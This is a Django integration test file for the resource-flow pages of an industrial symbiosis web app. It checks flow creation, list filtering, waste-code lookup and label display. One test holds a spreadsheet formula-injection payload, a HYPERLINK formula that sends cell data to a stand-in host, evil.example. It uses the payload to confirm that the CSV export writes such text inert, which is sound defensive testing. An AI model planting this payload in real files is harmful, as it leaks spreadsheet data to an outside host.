"""Integration: the flow pages (helix.symbiosis.views.flows): a member describes a flow, the list filters,
the waste-code pages suggest codes, flows.csv writes formula-like text inert, an organisation id that is
none is a 404, and the pages show the words for kinds, periods, regions and quality, not their codes."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.test import Client
from django.urls import reverse

from helix.jobs.models import Job
from helix.registry.models import Region
from helix.symbiosis import (
    matching,
)
from helix.symbiosis.models import AllocationRun, ResourceFlow, Synergy
from tests.helpers.clients import page_client
from tests.symbiosis.helpers import flow, world

pytestmark = [pytest.mark.integration, pytest.mark.django_db]


def test_member_can_describe_a_flow_through_the_form(django_capture_on_commit_callbacks) -> None:
    w = world()
    c = Client()
    c.force_login(w.cement_user)
    site = w.cement.sites.first()
    fields = {
        "direction": "want",
        "kind": "material",
        "title": "Fly ash",
        "description": "fly ash for cement",
        "site": site.pk,
        "ewc_code": "10 01 02",
        "quantity": "1200",
        "unit": "t",
        "period": "year",
        "confidentiality": "members",
        "status": "active",
        "quality_moisture_pct": "5",  # a want: the most it accepts
        "physical_form": "granular",
    }
    flow(
        w.steel,
        direction="have",
        kind="material",
        title="Boiler fly ash",
        ewc_code="100102",
        quantity=800,
        unit="t",
        confidentiality="public",
        quality={"moisture_pct": 3},
        physical_form="granular",
    )
    with django_capture_on_commit_callbacks(execute=True):
        response = c.post("/symbiosis/flows/new/", fields)
    assert response.status_code == 302, response.content.decode()[:2000]
    f = ResourceFlow.objects.get(title="Fly ash")
    assert (f.organisation, f.ewc_code, f.quality) == (w.cement, "100102", {"moisture_pct_max": 5})
    # saving the flow refreshed the proposals in the background: no staff needed, across regions
    assert Synergy.objects.filter(want=f, have__title="Boiler fly ash").exists()
    assert Job.objects.filter(kind="symbiosis-match:auto", status="succeeded").exists()
    bad = c.post(
        "/symbiosis/flows/new/",
        {
            "direction": "have",
            "kind": "material",
            "title": "x",
            "site": site.pk,
            "quantity": "1",
            "unit": "MWh",
            "period": "year",
            "confidentiality": "members",
            "status": "active",
            "quality_moisture_pct": "120",
        },
    )
    body = bad.content.decode()
    assert bad.status_code == 200
    assert "less than or equal to 100" in body
    assert "European List of Waste code" in body
    assert c.get(f"/symbiosis/flows/{w.slag.pk}/edit/").status_code == 403


def test_ewc_pages_and_suggestions() -> None:
    c = Client()
    assert "Wastes from thermal processes" in c.get("/symbiosis/waste-codes/").content.decode()
    page = c.get("/symbiosis/waste-codes/?code=1002").content.decode()
    assert "10 02 02" in page
    assert "Unprocessed slag" in page
    assert "Unprocessed slag" in c.get("/symbiosis/waste-codes/?q=unprocessed+slag").content.decode()
    assert "16 01 03" in c.get("/symbiosis/waste-codes/suggest/?description=Altreifen").content.decode()
    assert c.get("/symbiosis/waste-codes/?code=99").status_code == 404


def test_flow_list_filters_by_words_kind_and_direction() -> None:
    w = world()
    c = Client()
    c.force_login(w.staff)
    page = c.get("/symbiosis/?q=slag").content.decode()
    assert "Blast furnace slag" in page
    assert "Slag for clinker" in page
    assert "Spent solvent" not in page
    page = c.get("/symbiosis/?kind=heat&direction=have").content.decode()
    assert "Cooling water heat" in page
    assert "Greenhouse heating" not in page
    # searching by an anonymous owner's name finds nothing: names are not searchable
    assert "Spent solvent" not in client_page(w.outsider_user, "/symbiosis/?q=Geheim")


def client_page(user, url: str) -> str:  # type: ignore[no-untyped-def]
    return page_client(user).get(url).content.decode()


def test_pages_show_quality_and_region_labels_not_codes() -> None:
    w = world()
    pellets = flow(
        w.cement,
        direction="want",
        kind="material",
        title="Sawdust for pellets",
        ewc_code="030105",
        quantity=100,
        unit="t",
        quality={"moisture_pct_max": 15},
        physical_form="granular",
        confidentiality="public",
    )
    page = page_client(w.cement_user).get(f"/symbiosis/flows/{pellets.pk}/").content.decode()
    assert "<dt>Moisture</dt><dd>at most 15 %</dd>" in page
    assert "Powder, granules or chips" in page
    assert "moisture_pct_max" not in page
    AllocationRun.objects.create(region=Region.OOST_VLAANDEREN, created_by=w.staff)
    dashboard = page_client(w.staff).get("/symbiosis/dashboard/").content.decode()
    [run_link] = re.findall(r'href="/symbiosis/allocations/\d+/">([^<]*)</a>', dashboard)
    assert run_link.strip().endswith("Oost-Vlaanderen")
    job = matching.start_matching(w.staff, Region.OOST_VLAANDEREN)
    assert job.title == "Symbiosis matching Oost-Vlaanderen"


ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_flows_csv_writes_formula_text_inert_and_numbers_as_numbers():
    w = world()
    ResourceFlow.objects.filter(pk=w.slag.pk).update(title=ATTACK, description="@SUM(1)")

    response = page_client(w.staff).get("/symbiosis/flows.csv")

    rows = {r["ID"]: r for r in csv.DictReader(io.StringIO(response.content.decode()))}
    slag = rows[str(w.slag.pk)]
    assert (slag["Title"], slag["Quantity"], slag["Hazardous"]) == ("'" + ATTACK, "4000.0", "false")


def test_a_new_flow_for_an_organisation_id_that_is_none_is_a_404():
    w = world()
    client = page_client(w.staff)
    for organisation in ("99999999999999999999999", "²", "0"):
        response = client.get(f"/symbiosis/flows/new/?organisation={organisation}")
        assert (organisation, response.status_code) == (organisation, 404)
    assert client.get(f"/symbiosis/flows/new/?organisation={w.steel.pk}").status_code == 200


def test_flow_list_shows_labels_for_kind_period_and_region() -> None:
    w = world()
    client = Client()
    client.force_login(w.staff)
    html = client.get(reverse("symbiosis:flows")).content.decode()
    assert "<td>Waste or by-product</td>" in html
    assert "<td>Residual heat</td>" in html
    assert "4000 t per year" in html
    assert "250 t per month" in html
    assert "<td>Oost-Vlaanderen</td>" in html
    assert "<td>material</td>" not in html
    assert "<td>heat</td>" not in html
    assert "<td>oost-vlaanderen</td>" not in html
    assert "/month" not in html


def test_flow_page_shows_the_period_in_words() -> None:
    w = world()
    client = Client()
    client.force_login(w.staff)
    html = client.get(reverse("symbiosis:flow", args=[w.slag_want.pk])).content.decode()
    assert "250 t per month" in html
    assert "/ month" not in html
